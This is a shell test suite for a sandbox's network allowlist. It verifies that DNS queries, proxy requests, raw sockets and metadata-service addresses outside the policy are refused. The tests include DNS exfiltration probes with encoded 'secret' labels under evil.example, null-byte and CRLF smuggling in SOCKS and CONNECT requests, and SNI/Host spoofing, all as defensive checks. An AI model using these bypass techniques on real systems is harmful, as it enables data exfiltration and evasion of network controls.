# exec --policy: the network.  The servers run in a machine with a network of its own.  No packet
# can leave this network, so a packet that a program sends to any address would arrive in it.
load helpers
load history
load rootfs
load machine

setup_file() {
	export HOME=$BATS_FILE_TMPDIR MACHINE=$BATS_FILE_TMPDIR/machine
	cd "$BATS_FILE_TMPDIR" || return 1
	mini_rootfs tree
	cp "$TOOLS/netprobe-static" tree/netprobe
	add_programs tree curl git /usr/lib/git-core/git-remote-https
	add_python tree ssl urllib.request threading hashlib
	start_machine "$MACHINE"
	export machine_pid machine_fd
	cp "$MACHINE/cert.pem" tree/cert.pem
	printf '[safe]\n\tdirectory = *\n[user]\n\tname = t\n\temail = t@t\n' >tree/root/.gitconfig
	# A program that can write this file must not decide which addresses names have.
	echo '127.0.0.1 tricked.test' >tree/etc/hosts
	echo 'hosts: files dns' >tree/etc/nsswitch.conf
	make_repository "$MACHINE/www"
	STRATA_ROOT=$BATS_FILE_TMPDIR/env strata init --from tree >/dev/null
	rm -rf tree
}

teardown_file() {
	discard "$BATS_FILE_TMPDIR/env"
	stop_machine
}

# Make a file and the history of a repository, for clients that read only files.
make_repository() {
	git init -q -b main repository
	echo content >repository/file
	git -C repository add file
	git -C repository -c user.name=t -c user.email=t@t commit -qm one
	git clone -q --bare repository "$1/repository.git"
	git -C "$1/repository.git" update-server-info
}

setup() {
	strata_setup
	export STRATA_ROOT=$BATS_FILE_TMPDIR/env
	: >denials
}

teardown() {
	strata checkout HEAD >/dev/null 2>&1 || true
	strata_teardown
}

# allow RULE...  [-- RULE...] [MEMBER=JSON]...: make a policy with this list of allowed hosts; the
# denied hosts follow after --.
allow() {
	local key=allowed_domains members='' list=()
	for rule; do
		case $rule in
		--) members+=$(list_member $key "${list[@]}"); key=denied_domains list=() ;;
		*=*) members+="\"${rule%%=*}\":${rule#*=}," ;;
		*) list+=("$rule") ;;
		esac
	done
	members+=$(list_member $key "${list[@]}")
	policy "{\"mode\":\"allowlist\",${members%,}}"
}
list_member() { # KEY RULE...
	local key=$1 text=''
	shift
	[ $# = 0 ] || printf -v text '"%s",' "$@"
	printf '"%s":[%s],' "$key" "${text%,}"
}
# policy NET: make a policy under which all files may be read and written.
policy() { printf '{"fs":{"allow_read":["/"],"allow_write":["/"]},"net":%s}\n' "$1" >policy.json; }

# under COMMAND...: run a command under the policy.
under() { strata exec --no-commit --policy policy.json --denials denials -- "$@"; }
# direct: run curl without the proxy.  proxied: run curl with it.
direct() { under curl -sS --noproxy '*' --cacert /cert.pem "$@"; }
proxied() { under curl -sS --cacert /cert.pem "$@"; }
python() { under python3 -BIc "$1"; }

# reset COMMAND...: run curl; its connection must be reset while or after it is made.
reset() {
	run --separate-stderr "$@"
	[[ " 7 35 56 " == *" $status "* ]]
}

# denied JQ...: print the denials of this test with a filter, one on each line, and forget them.
denied() {
	jq -r "${1:-[.what, .host, .port | select(. != null) | tostring] | join(\" \")}" denials | LC_ALL=C sort -u
	: >denials
}

# packets PATTERN: print the number of such packets that the machine's own network has seen.
packets() { grep -cE "$1" "$MACHINE/packets" || true; }

@test "curl reaches what is allowed, with and without the proxy, and nothing else" {
	allow allowed.test
	for client in direct proxied; do
		run -0 $client https://allowed.test/host http://allowed.test/host
		is "$output" "host allowed.test
host allowed.test"
	done
	is "$(denied)" ""
	run -6 --separate-stderr direct https://other.test/host
	[[ $stderr == *"strata: denied: resolve other.test (net.allowed_domains: no rule has the host with this port)"*"add 'other.test' to net.allowed_domains"* ]]
	is "$(denied '[.what, .host, .rule, .remedy] | join("|")')" \
		"resolve|other.test|net.allowed_domains: no rule has the host with this port|add 'other.test' to net.allowed_domains"
	run -56 --separate-stderr proxied https://other.test/host
	[[ $stderr == *"response 403"* ]]
	run -0 --separate-stderr proxied http://other.test/host
	is "$output" "strata: the policy denies this host
rule: net.allowed_domains: no rule has the host with this port
remedy: add 'other.test' to net.allowed_domains"
	is "$(denied)" "connect other.test 443
connect other.test 80"
	reset direct -k https://93.184.216.34/host
	is "$(denied)" "connect 93.184.216.34 443"
}

@test "names are looked up with the files of the machine, not with those of the environment" {
	allow tricked.test
	run -0 proxied http://tricked.test/host
	is "$output" "host tricked.test"
	run -0 under sh -c 'echo 127.0.0.1 allowed.test >/etc/hosts; curl -sS http://allowed.test/host'
	[[ $output == *"rule: net.allowed_domains: no rule has the host with this port"* ]]
}

@test "git clones over https from an allowed host alone" {
	allow allowed.test
	for proxy in http.proxy= user.name=x; do
		run -0 --separate-stderr under git -c $proxy -c http.sslCAInfo=/cert.pem clone -q \
			https://allowed.test/repository.git "/tmp/clone-$proxy"
		run -0 in_env cat "/tmp/clone-$proxy/file"
		is "$output" content
	done
	is "$(denied 'select(.what == "connect" or .what == "resolve")')" ""
	run -128 --separate-stderr under git -c http.sslCAInfo=/cert.pem clone https://other.test/repository.git /tmp/other
	[[ $stderr == *"CONNECT tunnel failed, response 403"* ]]
	is "$(denied)" "connect other.test 443"
}

@test "python: urllib by the proxy, sockets of its own without" {
	allow allowed.test:443
	run -0 python 'import ssl, urllib.request as r
print(r.urlopen("https://allowed.test/host", context=ssl.create_default_context(cafile="/cert.pem")).read())'
	is "$output" "b'host allowed.test\\n'"
	run -0 python 'import socket, ssl
s = ssl.create_default_context(cafile="/cert.pem").wrap_socket(
    socket.create_connection(("allowed.test", 443)), server_hostname="allowed.test")
s.sendall(b"GET /host HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
print(b"".join(iter(lambda: s.recv(4096), b"")).splitlines()[-1])'
	is "$output" "b'host allowed.test'"
	run -1 --separate-stderr python 'import urllib.request as r
r.urlopen("https://other.test/host")'
	[[ $stderr == *"Tunnel connection failed: 403"* ]]
	is "$(denied)" "connect other.test 443"
}

@test "a static program with raw system calls and its own queries for names" {
	allow allowed.test allowed.test:8080
	for port in 80 8080; do
		for server in 8.8.8.8 192.168.1.1 2001:4860:4860::8888; do
			run -0 under /netprobe get $server allowed.test $port /host
			is "${lines[-1]}" "host allowed.test"
		done
	done
	is "$(denied)" ""
	run -3 --separate-stderr under /netprobe get 8.8.8.8 other.test 80 /host
	is "$output" "code 3"
	is "$(denied)" "resolve other.test"
	run -0 --separate-stderr under /netprobe hello 93.184.216.34 80
	is "${lines[0]}" $'HTTP/1.1 403 Forbidden\r'
	run -1 --separate-stderr under /netprobe connect 93.184.216.34 22
	is "$output" "connect: ECONNREFUSED"
	is "$(denied)" "connect 93.184.216.34 22
connect 93.184.216.34 80"
}

@test "queries for names never leave: UDP, TCP, IPv6, to any server" {
	allow allowed.test
	run -0 under sh -c 'for s in 8.8.8.8 127.0.0.1 192.0.2.53 10.0.0.1 2001:4860:4860::8888 ::1; do
		/netprobe resolve $s allowed.test; /netprobe resolve $s allowed.test tcp; done'
	is "$(sort -u <<<"$output")" 198.18.0.1
	is "${#lines[@]}" 12
	is "$(denied)" ""
	run -3 --separate-stderr under /netprobe resolve 8.8.8.8 c2VjcmV0.evil.example
	is "$output" "code 3"
	run -3 --separate-stderr under /netprobe resolve 1.1.1.1 c2VjcmV1.evil.example tcp
	is "$output" "code 3"
	run -3 --separate-stderr under /netprobe udp 9.9.9.9 53
	is "$output" nothing
	is "$(denied)" "resolve c2vjcmv0.evil.example
resolve c2vjcmv1.evil.example"
	is "$(packets ' 53$')" 0
}

@test "other packets go nowhere" {
	allow allowed.test '*:7000'
	run -1 --separate-stderr under /netprobe udp 8.8.8.8 123
	is "$output" "receive: ECONNREFUSED"
	run -1 --separate-stderr under /netprobe udp 2001:4860:4860::8888 443
	is "$(denied '[.what, .host, .port, .rule] | join(" ")')" \
		"connect 2001:4860:4860::8888 443 net.mode: allowlist carries no UDP
connect 8.8.8.8 123 net.mode: allowlist carries no UDP"
	run -0 --separate-stderr under /netprobe odd 8.8.8.8
	is "$(cut -d: -f1 <<<"$output" | paste -sd,)" "ping,ping6,raw icmp,raw,packet,sctp,vsock,bluetooth,alg"
	run -1 grep "done" <<<"$output"
	is "$(packets '^udp|^1 |^58 |8\.8\.8\.8')" 0
}

@test "SOCKS and CONNECT: what is odd is refused" {
	allow allowed.test
	run -0 --separate-stderr python '
import socket
def tell(port, *parts):
    s = socket.create_connection(("127.0.0.1", port))
    for part in parts[:-1]:
        s.sendall(part)
        s.recv(2)
    s.sendall(parts[-1])
    return s.recv(4096)
def socks(kind, address, port=443):
    return tell(1080, b"\5\1\0", b"\5\1\0" + bytes([kind]) + address + port.to_bytes(2, "big"))[1]
def named(name):
    return socks(3, bytes([len(name)]) + name)
def connect(text, more=b""):
    return tell(3128, b"CONNECT " + text + b" HTTP/1.1\r\nHost: " + text + b"\r\n" + more + b"\r\n").split(b"\r\n")[0][9:12].decode()
print("socks allowed", named(b"allowed.test"))
print("socks other", named(b"other.test"))
for odd in b"allowed.test\0.evil", b"allowed.test\r\nX: y", b"\nallowed.test", b"\0", b"allowed.test ", b"", b"0x7f.1", b"2130706433":
    print("socks", odd, named(odd))
print("socks literal", socks(1, socket.inet_aton("93.184.216.34")), socks(1, bytes([127, 0, 0, 1])))
print("socks literal 6", socks(4, socket.inet_pton(socket.AF_INET6, "2606:2800::34")), socks(4, bytes(15) + bytes([1])))
print("socks literal as a name", named(b"93.184.216.34"), named(b"::1"))
print("connect allowed", connect(b"allowed.test:443"))
for odd in b"93.184.216.34:443", b"[2606:2800::34]:443", b"127.0.0.1:443", b"[::1]:443", b"other.test:443", b"allowed.test:22", b"127.1:443", b"0x7f000001:443", b"allowed.test", b"allowed.test\0:443", b"allowed.test%00:443", b"user@allowed.test:443":
    print("connect", odd, connect(odd))
print("connect with a broken line", connect(b"allowed.test:443", b"X: a\rb\r\n"))
'
	is "$output" "socks allowed 0
socks other 2
socks b'allowed.test\\x00.evil' 2
socks b'allowed.test\\r\\nX: y' 2
socks b'\\nallowed.test' 2
socks b'\\x00' 2
socks b'allowed.test ' 2
socks b'' 2
socks b'0x7f.1' 2
socks b'2130706433' 2
socks literal 2 2
socks literal 6 2 2
socks literal as a name 2 2
connect allowed 200
connect b'93.184.216.34:443' 403
connect b'[2606:2800::34]:443' 403
connect b'127.0.0.1:443' 403
connect b'[::1]:443' 403
connect b'other.test:443' 403
connect b'allowed.test:22' 403
connect b'127.1:443' 400
connect b'0x7f000001:443' 400
connect b'allowed.test' 400
connect b'allowed.test\\x00:443' 400
connect b'allowed.test%00:443' 400
connect b'user@allowed.test:443' 400
connect with a broken line 400"
}

@test "a client of SOCKS with names for the proxy" {
	allow allowed.test
	run -0 under curl -sS --proxy socks5h://127.0.0.1:1080 --cacert /cert.pem https://allowed.test/host http://allowed.test/host
	is "$output" "host allowed.test
host allowed.test"
	run -97 --separate-stderr under curl -sS --proxy socks5h://127.0.0.1:1080 https://other.test/host
	is "$(denied)" "connect other.test 443"
}

@test "a name that leads to this machine, a private network or a metadata service is refused" {
	allow loopback.test loopback6.test private.test linklocal.test metadata.test unspecified.test mixed.test
	for name in loopback loopback6 private linklocal metadata unspecified; do
		run -0 --separate-stderr proxied "http://$name.test/host"
		[[ $output == "strata: the policy denies this host"* ]]
		run -0 --separate-stderr direct "http://$name.test/host"
		[[ $output == "strata: the policy denies this host"* ]]
	done
	is "$(denied '[.host, .rule, .remedy] | join("|")')" \
"linklocal.test|net.allowed_domains: no rule has a link-local address|add '169.254.7.7' to net.allowed_domains
loopback.test|net.allowed_domains: no rule has a loopback address|add '127.0.0.1' to net.allowed_domains
loopback6.test|net.allowed_domains: no rule has a loopback address|add '::1' to net.allowed_domains
metadata.test|net.allowed_domains: no rule has an address of a cloud's metadata service|add '169.254.169.254' to net.allowed_domains
private.test|net.allowed_domains: no rule has a private address|add '10.1.2.3' to net.allowed_domains
unspecified.test|net.allowed_domains: no rule has an unspecified address|connect to another address"
	# If a name has several addresses, a public one is used.
	run -0 direct http://mixed.test/host
	is "$output" "host mixed.test"
	allow loopback.test loopback6.test private.test linklocal.test metadata.test localhost 10.1.2.3 169.254.169.254
	for name in loopback loopback6 private metadata; do
		run -0 direct "http://$name.test/host"
		is "$output" "host $name.test"
	done
	run -0 --separate-stderr direct http://linklocal.test/host
	is "$(denied .host)" linklocal.test
}

@test "the names in TLS and HTTP are those that were dialled" {
	allow allowed.test other.test
	reset direct --connect-to other.test:443:allowed.test:443 https://other.test/host
	is "$(denied '[.host, .port, .rule] | join("|")')" \
		"other.test|443|net: the TLS server name 'other.test' is not 'allowed.test', which was dialled"
	reset proxied --connect-to other.test:443:allowed.test:443 https://other.test/host
	is "$(denied '[.host, .port, .rule] | join("|")')" \
		"other.test|443|net: the TLS server name 'other.test' is not 'allowed.test', which was dialled"
	run -0 --separate-stderr direct -H 'Host: other.test' http://allowed.test/host
	is "$output" "strata: the policy denies this request
rule: net: the Host header 'other.test' is not 'allowed.test', which was dialled
remedy: connect to the name that the server is asked for"
	is "$(denied '[.host, .port] | join("|")')" "other.test|80"
	# The second request of a connection is checked, too.
	run -0 --separate-stderr direct http://allowed.test/host -: -sS --noproxy '*' -H 'Host: other.test' http://allowed.test/host
	[[ $output == "host allowed.test
strata: the policy denies this request"* ]]
}

@test "rules: '*.' at any depth, denials, ports" {
	allow '*.wild.test' allowed.test:8080 '*.wild.test:8443' allowed.test:7000 -- bad.wild.test a.wild.test:8443
	run -0 direct https://a.wild.test/host https://b.c.wild.test/host https://b.c.wild.test:8443/host http://allowed.test:8080/host
	is "$output" "host a.wild.test
host b.c.wild.test
host b.c.wild.test:8443
host allowed.test:8080"
	is "$(denied)" ""
	run -6 --separate-stderr direct https://wild.test/host
	run -6 --separate-stderr direct https://bad.wild.test/host
	reset direct https://a.wild.test:8443/host
	run -0 --separate-stderr direct http://allowed.test/host
	is "$(denied '[.host, .port, .rule] | join("|")')" "a.wild.test|8443|net.denied_domains: a.wild.test:8443
allowed.test|80|net.allowed_domains: no rule has the host with this port
bad.wild.test||net.denied_domains: bad.wild.test
wild.test||net.allowed_domains: no rule has the host with this port"
}

@test "IPv6: by name, and an address by a rule of its own" {
	allow six.test both.test '[2606:2800::34]:80'
	run -0 direct https://six.test/host http://both.test/host 'http://[2606:2800::34]/host'
	is "$output" "host six.test
host both.test
host [2606:2800::34]"
	run -0 --separate-stderr direct 'http://[2606:2800::35]/host'
	[[ $output == "strata: the policy denies this host"* ]]
	reset direct 'https://[2606:2800::34]/host'
	is "$(denied)" "connect 2606:2800::34 443
connect 2606:2800::35 80"
}

@test "200 connections at once" {
	allow '*.wild.test:7001' allowed.test:7001
	run -0 python '
import hashlib, socket, threading
right = []
def ask(i):
    s = socket.create_connection(("allowed.test", 7001))
    started.wait()
    data = bytes([i]) * (1000 + i)
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    answer = b"".join(iter(lambda: s.recv(4096), b""))
    right.append(answer == f"{len(data)} {hashlib.sha256(data).hexdigest()}\n".encode())
started = threading.Barrier(200)
threads = [threading.Thread(target=ask, args=(i,)) for i in range(200)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(len(right), all(right))'
	is "$output" "200 True"
	is "$(denied)" ""
}

@test "100 MB in each direction are the same bytes" {
	allow allowed.test allowed.test:8080
	size=100000000
	sum=$(python3 -c "import array, hashlib; print(hashlib.sha256(array.array('Q', range($size // 8))).hexdigest())")
	run -0 under sh -c "curl -sS --noproxy '*' http://allowed.test:8080/size/$size | tee /tmp/big | sha256sum
		curl -sS --noproxy '*' --cacert /cert.pem --data-binary @/tmp/big https://allowed.test/
		curl -sS --cacert /cert.pem https://allowed.test/size/$size | cmp - /tmp/big && echo same; rm /tmp/big"
	is "$output" "$sum  -
$sum
same"
}

@test "half-closed connections, servers that speak first, slow servers" {
	allow allowed.test:7001 allowed.test:7002 allowed.test:7003
	run -0 python '
import socket, time
def open_to(port): return socket.create_connection(("allowed.test", port))
def rest(s): return b"".join(iter(lambda: s.recv(4096), b""))
s = open_to(7001)
s.sendall(b"abc")
time.sleep(0.2)
s.sendall(b"def")
s.shutdown(socket.SHUT_WR)
print(rest(s)[:4])
s = open_to(7002)
print(rest(s))
s.sendall(b"more")
s.close()
s = open_to(7003)
s.sendall(b"12345678")
print(rest(s))'
	is "$output" "b'6 be'
b'welcome\\n'
b'12345678'"
}

@test "mode none: the loopback device, and nothing else" {
	policy '{"mode":"none"}'
	run -0 --separate-stderr python '
import socket, os
s = socket.socket()
for address in ("93.184.216.34", 80), ("127.0.0.1", 80), ("8.8.8.8", 53):
    s = socket.socket()
    try: s.connect(address)
    except OSError as e: print(address[0], e.strerror)
a, b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
a.bind(("127.0.0.1", 0))
b.sendto(b"hello", a.getsockname())
print(a.recv(9), os.listdir("/sys/class/net"))'
	is "$output" "93.184.216.34 Network is unreachable
127.0.0.1 Connection refused
8.8.8.8 Network is unreachable
b'hello' ['lo']"
}

@test "mode host: the network of the machine" {
	policy '{"mode":"host"}'
	run -0 direct --resolve allowed.test:443:93.184.216.34 https://allowed.test/host http://127.0.0.1/host 'http://[2606:2800::99]/host'
	is "$output" "host allowed.test
host 127.0.0.1
host [2606:2800::99]"
	is "$(denied)" ""
}

@test "allow_local_binding: ports to listen on" {
	for mode in none host allowlist; do
		policy "{\"mode\":\"$mode\"}"
		for address in 127.0.0.1 0.0.0.0 ::1; do
			run -1 --separate-stderr under /netprobe listen $address 9876
			is "$output" "bind: EACCES"
		done
		policy "{\"mode\":\"$mode\",\"allow_local_binding\":true}"
		for address in 127.0.0.1 0.0.0.0 ::1; do
			run -0 under /netprobe listen $address 9876
		done
	done
}

@test "programs inside reach each other under an allowlist" {
	allow allowed.test allow_local_binding=true
	run -0 python '
import socket, threading
server = socket.create_server(("127.0.0.1", 9877))
def answer():
    c = server.accept()[0]
    c.sendall(c.recv(9).upper())
thread = threading.Thread(target=answer)
thread.start()
c = socket.create_connection(("localhost", 9877))
c.sendall(b"inside")
print(c.recv(9))
thread.join()'
	is "$output" "b'INSIDE'"
	is "$(denied)" ""
}

@test "--net with a policy" {
	allow allowed.test
	run -0 --separate-stderr strata exec --no-commit --net none --policy policy.json -- \
		/netprobe listen 127.0.0.1 1 || true
	run -1 --separate-stderr strata exec --no-commit --net none --policy policy.json -- /netprobe connect 93.184.216.34 80
	is "$output" "connect: ENETUNREACH"
	run -0 --separate-stderr strata exec --no-commit --net host --policy policy.json -- curl -sS http://other.test/host
	[[ $output == "strata: the policy denies this host"* ]]
	run -0 strata exec --no-commit --net host --policy policy.json -- curl -sS http://allowed.test/host
	is "$output" "host allowed.test"
}

# The other tests run strata in a user namespace with one id.  This test does not.
@test "a server of this machine, by the rule localhost, as any user" {
	export STRATA_ROOT=$BATS_TEST_TMPDIR/env
	mini_rootfs src
	cp "$TOOLS/netprobe-static" src/netprobe
	"$STRATA" init --from src >/dev/null
	mkfifo port life
	python3 -c '
import socket, sys, threading
server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], flush=True)
def welcome():
    while True: server.accept()[0].sendall(b"welcome\n")
threading.Thread(target=welcome, daemon=True).start()
sys.stdin.read()' <life >port 3>&- &
	exec {life}>life
	read -r port <port
	probe() { "$STRATA" exec --no-commit --policy policy.json --denials denials -- /netprobe hello "$1" "$port"; }
	allow "localhost:$port"
	run -0 probe 127.0.0.1
	is "$output" welcome
	is "$(denied)" ""
	# Another loopback address has a rule, but no server.
	run -1 --separate-stderr probe 127.0.0.2
	is "$output" "receive: ECONNRESET"
	allow "allowed.test:$port"
	run -1 --separate-stderr probe 127.0.0.1
	is "$output" "receive: ECONNRESET"
	is "$(denied)" "connect 127.0.0.1 $port"
	policy '{"mode":"none"}'
	run -1 --separate-stderr probe 127.0.0.1
	is "$output" "connect: ECONNREFUSED"
	policy '{"mode":"host"}'
	run -0 probe 127.0.0.1
	is "$output" welcome
	exec {life}>&-
	wait
}

# wait_for COMMAND...: wait until the command succeeds.
wait_for() {
	for ((i = 0; i < 500; i++)); do
		! "$@" >/dev/null 2>&1 || return 0
		sleep 0.02
	done
	return 1
}

@test "programs in the background keep their way out, and their policy" {
	allow allowed.test:7000
	under python3 -BIc '
import os, socket, time
if os.fork(): os._exit(0)
s = socket.create_connection(("allowed.test", 7000))
s.sendall(b"before\n")
os.write(os.open("/tmp/told", os.O_WRONLY | os.O_CREAT), s.recv(99))
while not os.path.exists("/tmp/go"): time.sleep(0.01)
s.sendall(b"after\n")
told = s.recv(99)
told += socket.create_connection(("allowed.test", 7000)) and b"again\n"
try: socket.create_connection(("other.test", 7000))
except OSError as e: told += b"not other\n"
os.write(os.open("/tmp/told", os.O_WRONLY | os.O_APPEND), told)
time.sleep(1000)'
	wait_for in_env test -s /tmp/told
	# A later command has a policy of its own.
	allow other.test:7000
	run -0 under /netprobe resolve 8.8.8.8 other.test
	in_env touch /tmp/go
	wait_for in_env grep other /tmp/told
	run -0 in_env cat /tmp/told
	is "$output" "before
after
again
not other"
	is "$(denied)" "resolve other.test"
}

# below PID: print a process and all its descendants.
below() {
	local child
	echo "$1"
	for child in $(cat "/proc/$1/task/$1/children" 2>/dev/null); do below "$child"; done
}
all_ended() { local pid; for pid; do ended "$pid" || return 1; done; }

@test "strata killed: connections and processes end" {
	allow allowed.test:7000
	local started pids
	under python3 -BIc '
import socket, time
s = socket.create_connection(("allowed.test", 7000))
s.sendall(b"up\n")
print(s.recv(9), flush=True)
time.sleep(1000)' >said 2>&1 3>&- &
	started=$!
	wait_for grep up said
	pids=$(below $started)
	[ "$(wc -w <<<"$pids")" -ge 5 ]
	kill -9 "$(pgrep -P $started)"
	wait $started || true
	# shellcheck disable=SC2086 # one word a process
	wait_for all_ended $pids
}
